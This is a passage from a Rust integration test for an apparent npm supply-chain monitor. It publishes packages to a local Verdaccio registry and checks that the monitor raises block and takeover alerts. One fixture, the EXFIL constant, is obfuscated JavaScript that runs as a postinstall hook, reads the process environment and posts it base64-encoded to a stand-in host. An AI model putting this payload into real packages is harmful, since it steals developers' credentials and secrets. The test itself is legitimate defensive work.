    assert_eq!(alerts[0]["verdict"], "block", "{alerts:#?}");
    let findings: Vec<&str> = alerts[0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert!(findings.contains(&"py-pth-exec"), "{findings:?}");
}

// ---------------------------------------------------------------- a real Verdaccio

fn require_tools() -> bool {
    std::env::var_os("TURNCOAT_TEST_REQUIRE_TOOLS").is_some_and(|v| v == "1")
}

/// Node, npm and Verdaccio, or None after saying why (a failure under REQUIRE_TOOLS).
fn node_npm_verdaccio(test: &str) -> Option<(std::path::PathBuf, std::path::PathBuf)> {
    use turncoat_sandbox::tools::find_on_path;
    let found = (
        find_on_path("node"),
        find_on_path("npm"),
        turncoat_exercise::registry::locate_verdaccio().ok(),
    );
    match found {
        (Some(node), Some(npm), Some(_)) => Some((node, npm)),
        _ => {
            assert!(
                !require_tools(),
                "{test}: TURNCOAT_TEST_REQUIRE_TOOLS=1 but node, npm or verdaccio (TURNCOAT_VERDACCIO) is missing"
            );
            eprintln!("skipped {test}: node, npm or verdaccio (TURNCOAT_VERDACCIO) not found");
            None
        }
    }
}

fn release(
    name: &str,
    version: &str,
    extra: &[(&str, &str)],
    scripts: Value,
) -> turncoat_exercise::canary::PackageRelease {
    let manifest = json!({
        "name": name, "version": version, "main": "index.js", "license": "MIT",
        "scripts": scripts,
    });
    let mut files = vec![
        (
            "package.json".to_string(),
            serde_json::to_vec_pretty(&manifest).unwrap(),
        ),
        (
            "index.js".to_string(),
            b"module.exports = (s, n) => String(s).padStart(n);\n".to_vec(),
        ),
    ];
    files.extend(
        extra
            .iter()
            .map(|(p, c)| (p.to_string(), c.as_bytes().to_vec())),
    );
    turncoat_exercise::canary::PackageRelease {
        name: name.into(),
        version: version.into(),
        files,
    }
}

/// Reads the environment through computed names and posts it, base64'd, to a remote host.
const EXFIL: &str = "const _k=['\\x65\\x6e\\x76','\\x68\\x74\\x74\\x70\\x73'];\
const _e=process[_k[0]];const _h=require(_k[1]);\
const _r=_h.request({hostname:'collect.'+'exfil-example'+'.com',method:'POST',path:'/c'});\
_r.write(Buffer.from(JSON.stringify(_e)).toString('base64'));_r.end();\n";

#[test]
fn verdaccio_a_new_version_is_judged_by_the_gate_then_a_304_and_an_own_takeover() {
    let test = "verdaccio_monitor";
    let Some((node, npm)) = node_npm_verdaccio(test) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let home = d.join("npm-home");
    let work = d.join("work");
    std::fs::create_dir_all(&home).unwrap();
    let mut reg = turncoat_exercise::registry::Registry::start_local(
        &node,
        &d.join("verdaccio"),
        std::time::Duration::from_secs(90),
    )
    .unwrap();
    let publish = |r: &turncoat_exercise::canary::PackageRelease| {
        reg.publish(&npm, &home, r, &work).unwrap();
    };
    publish(&release("mon-dep", "1.0.0", &[], json!({})));
    publish(&release("mon-own", "1.0.0", &[], json!({})));

    // Lock mon-dep@1.0.0 the way a project does.
    let proj = d.join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    std::fs::write(
        proj.join("package.json"),
        r#"{"name": "proj", "version": "1.0.0", "dependencies": {"mon-dep": "1.0.0"}}"#,
    )
    .unwrap();
    let out = turncoat_exercise::registry::npm_tool(&npm, &home)
        .cwd(&proj)
        .args([
            "install",
            "--package-lock-only",
            "--ignore-scripts",
            "--registry",
            &reg.url,
        ])
        .run()
        .unwrap();
    assert!(out.success(), "{}", out.stderr_tail(2000));
    std::fs::write(d.join("roster.toml"), ROSTER.replace("team-pkg", "mon-own")).unwrap();

    let args = [
        "monitor",
        "--once",
        "--lockfile",
        "proj/package-lock.json",
        "--own",
        "mon-own",
        "--roster",
        "roster.toml",
        "--registry",
        &reg.url,
        "--database",
        "store.sqlite",
        "--format",
        "jsonl",
    ];
    // The real clock: Verdaccio stamps publish times now.
    let run = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_turncoat"))
            .current_dir(d)
            .env("HOME", d)
            .env("TURNCOAT_CACHE_DIR", d.join("cache"))
            .env_remove("TURNCOAT_NOW")
            .env_remove("TURNCOAT_DATABASE")
            .args(args)
            .output()
            .unwrap();
        Run {
            code: out.status.code(),
            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
            stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        }
    };
    let first = run(&args);
    assert_eq!(first.code, Some(0), "{}", first.stderr);
    assert_eq!(first.stdout, "");
    assert!(first.stderr.contains("2 baselines"), "{}", first.stderr);

    publish(&release(
        "mon-dep",
        "1.0.1",
        &[("setup.js", EXFIL)],
        json!({"postinstall": "node setup.js"}),
    ));
    publish(&release("mon-own", "1.0.1", &[], json!({})));
    let second = run(&args);
    assert_eq!(second.code, Some(1), "{}\n{}", second.stdout, second.stderr);
    let alerts = second.alerts();
    // The own package's takeover alarm first: `drill` (Verdaccio's publisher here) is not in
    // the roster, and Verdaccio records no `_npmUser`, so nobody in the roster can be shown
    // to have published it.
    assert_eq!(alerts[0]["code"], "monitor-takeover", "{alerts:#?}");
    assert_eq!(alerts[0]["package"], "mon-own");
    let dep = alerts
        .iter()
        .find(|a| a["package"] == "mon-dep" && a["code"] == "monitor-new-version")
        .unwrap_or_else(|| panic!("{alerts:#?}"));
    assert_eq!(dep["version"], "1.0.1");
    assert_eq!(dep["locked"], "1.0.0");
    assert_eq!(dep["verdict"], "block", "{dep:#}");
    assert_eq!(dep["level"], "block");
    assert!(!dep["findings"].as_array().unwrap().is_empty(), "{dep:#}");
    // The own package's new version is judged too, against its previous release.
    let own = alerts
        .iter()
        .find(|a| a["package"] == "mon-own" && a["code"] == "monitor-new-version")
        .unwrap_or_else(|| panic!("{alerts:#?}"));
    assert_eq!(own["locked"], "1.0.0", "{own:#}");
    assert_ne!(own["verdict"], "block", "{own:#}");
    assert!(
        dep["registry"]
            .as_str()
            .unwrap()
            .starts_with("http://127.0.0.1:")
    );

    let third = run(&args);
    assert_eq!(third.code, Some(0), "{}\n{}", third.stdout, third.stderr);
    assert_eq!(third.stdout, "", "nothing new: no alert");
    assert!(
        third.stderr.contains("2 unchanged (304)"),
        "{}",
        third.stderr
    );
    reg.stop();
}
